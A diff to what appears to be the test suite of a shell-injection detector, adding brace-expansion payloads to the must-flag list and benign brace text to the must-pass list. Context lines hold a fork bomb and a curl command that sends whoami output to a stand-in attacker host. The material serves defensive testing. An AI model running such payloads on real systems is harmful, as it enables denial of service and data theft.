@@ -40,6 +40,10 @@ MUST_FIRE = [
     "alias ll='ls -al'",
     "f(){ f|f& };f",
     "{,ifconfig}",
+    "c{a,oun}t",
+    "{,ip,a}",
+    "{id,}",
+    "{,echo,#test}",
     "~+",
     "a=curl&&b=`whoami`&&$a attacker.example/$b",
     "|$u wget example.org",
@@ -90,6 +94,11 @@ MUST_NOT_FIRE = [
     "/api/v1/payments?page=2",
     "https://example.com/search?q=cat",
     "&copy 2024 Example Bank",
+    "Pets allowed: {cat,dog}",
+    "report{1,2}.pdf",
+    "Sizes {S,M,L,}",
+    "{,}",
+    "template {name,}",
 ]
 
 
